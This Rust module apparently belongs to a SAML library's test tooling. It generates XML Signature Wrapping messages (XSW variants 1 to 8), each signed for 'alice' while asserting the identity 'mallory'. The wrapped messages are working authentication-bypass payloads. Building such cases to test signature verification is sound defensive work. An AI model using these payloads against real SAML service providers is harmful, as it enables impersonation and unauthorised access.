//! Signature wrapping, variants 1 to 8 of Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be" (2012), over
//! messages of every signing style and with the original's ID or a new one for the evil element.

use crate::{Response, Signed};

/// A wrapped message.
#[derive(Clone, Debug)]
pub struct Wrapped {
    /// Which: variant, signing style, ID.
    pub name: String,
    /// The message. It is signed for `alice` and says `mallory`.
    pub xml: String,
}

/// The signature directly in the element that a text begins with, cut out of it.
fn cut_signature(xml: &str) -> (String, String) {
    let start = xml.find("<ds:Signature ").unwrap_or(xml.len());
    let end = xml.find("</ds:Signature>").map_or(xml.len(), |at| at + "</ds:Signature>".len());
    let (before, rest) = xml.split_at(start);
    let (signature, after) = rest.split_at(end - start);
    (signature.to_owned(), format!("{before}{after}"))
}

fn put_signature(xml: &str, signature: &str) -> String {
    xml.replacen("</saml:Issuer>", &format!("</saml:Issuer>{signature}"), 1)
}

fn with_object(signature: &str, content: &str) -> String {
    signature.replacen("</ds:Signature>", &format!("<ds:Object>{content}</ds:Object></ds:Signature>"), 1)
}

/// Every variant that fits the signing style.
pub fn all() -> Vec<Wrapped> {
    let mut found = Vec::new();
    for same_id in [true, false] {
        for (signed, variants) in [
            (Signed::Response, &[1, 2][..]),
            (Signed::Assertion, &[3, 4, 5, 6, 7, 8][..]),
            (Signed::Both, &[1, 2, 3, 4, 5, 6, 7, 8][..]),
        ] {
            for variant in variants {
                let name =
                    format!("XSW{variant}, {signed:?} signed, {} ID", if same_id { "same" } else { "new" });
                found.push(Wrapped { name, xml: wrap(*variant, signed, same_id) });
            }
        }
    }
    found
}

/// The evil elements: the original's IDs, or others.
fn evil(original: &Response, same_id: bool) -> Response {
    let id = |id: &str| if same_id { id.to_owned() } else { format!("{id}-evil") };
    Response {
        name_id: "mallory".to_owned(),
        response_id: id(&original.response_id),
        assertion_id: id(&original.assertion_id),
        signed: Signed::Nothing,
        ..Response::default()
    }
}

fn wrap(variant: u8, signed: Signed, same_id: bool) -> String {
    let original = Response::signed(signed);
    let evil = evil(&original, same_id);
    if variant <= 2 {
        let (signature, bare) = cut_response_signature(&original);
        let evil_response = evil.xml();
        return match variant {
            1 => put_signature(&evil_response, &with_object(&signature, &bare)),
            _ => put_signature(&evil_response, &format!("{bare}{signature}")),
        };
    }
    let assertion = original.assertion_xml();
    let (signature, bare) = cut_signature(&assertion);
    let evil_assertion = evil.assertion_xml();
    let content = match variant {
        3 => format!("{evil_assertion}{assertion}"),
        5 => format!("{}{bare}", put_signature(&evil_assertion, &signature)),
        7 => format!("<samlp:Extensions>{evil_assertion}</samlp:Extensions>{assertion}"),
        _ => self::assertion(variant, same_id),
    };
    evil.around(&content)
}

/// Variant 4, 6 or 8, which stay within the evil assertion.
pub(crate) fn assertion(variant: u8, same_id: bool) -> String {
    let original = Response::default();
    let assertion = original.assertion_xml();
    let (signature, bare) = cut_signature(&assertion);
    let evil = evil(&original, same_id).assertion_xml();
    match variant {
        4 => evil.replacen("</saml:Assertion>", &format!("{assertion}</saml:Assertion>"), 1),
        6 => put_signature(
            &evil,
            &signature.replacen("<ds:SignatureValue>", &format!("{bare}<ds:SignatureValue>"), 1),
        ),
        _ => put_signature(&evil, &with_object(&signature, &bare)),
    }
}

/// The Response's own signature, and the Response without it.
fn cut_response_signature(original: &Response) -> (String, String) {
    // The Response's Issuer comes before its assertion, so its signature is the first.
    cut_signature(&original.xml())
}
